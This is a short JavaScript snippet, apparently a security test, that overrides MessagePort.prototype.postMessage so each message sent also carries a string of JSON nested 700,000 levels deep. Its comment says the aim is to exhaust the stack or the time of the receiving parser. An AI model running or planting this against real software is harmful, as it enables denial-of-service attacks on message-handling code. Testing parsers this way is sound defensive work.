// Tries to exhaust the stack or the time of the code that reads the message: nested lists and objects instead of text.
const send = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message) {
  const deep = `${'{"a":['.repeat(700_000)}1${"]}".repeat(700_000)}`;
  send.call(this, message.replace('"doc":', `"doc":${deep},"more":`).replace('"prints":', `"prints":${deep},"more":`));
  send.call(this, message.replace(/\}$/, `,"more":${deep}}`));
};
